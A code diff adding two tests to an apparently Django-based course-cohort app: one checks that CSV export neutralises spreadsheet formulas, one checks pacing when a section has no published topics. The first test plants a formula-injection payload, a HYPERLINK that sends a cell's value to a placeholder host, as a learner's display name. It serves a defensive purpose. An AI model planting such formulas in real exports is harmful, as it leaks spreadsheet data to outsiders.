@@ -386,3 +386,21 @@ def test_seed_demo_creates_a_cohort_to_look_at(settings, course):
     assert len({row.overall.percent for row in matrix.rows}) > 3  # varied progress
     call_command("seed_demo", "--learners", "5", stdout=io.StringIO())  # re-runnable
     assert Cohort.objects.get(slug="cohorte-demo").memberships.filter(role="aprendiz").count() == 5
+
+
+def test_csv_neutralises_spreadsheet_formulas(client, cohort, bruno, ana):
+    ana.display_name = '=HYPERLINK("https://malo.example/?"&B2,"clic")'
+    ana.save()
+    client.force_login(bruno)
+    text = client.get(f"/cohortes/{cohort.slug}/exportar.csv").content.decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
+    assert row[0] == "'" + ana.display_name
+
+
+def test_a_target_on_a_section_without_published_topics_never_makes_anyone_behind(cohort, ana):
+    math = section("matematicas-para-aprendizaje-automatico")
+    SectionTarget.objects.create(
+        cohort=cohort, section=math, due_date=TODAY - datetime.timedelta(days=2)
+    )
+    math.topics.update(is_published=False)
+    assert cohort_matrix(cohort).rows[0].pacing == Pacing.ON_TRACK
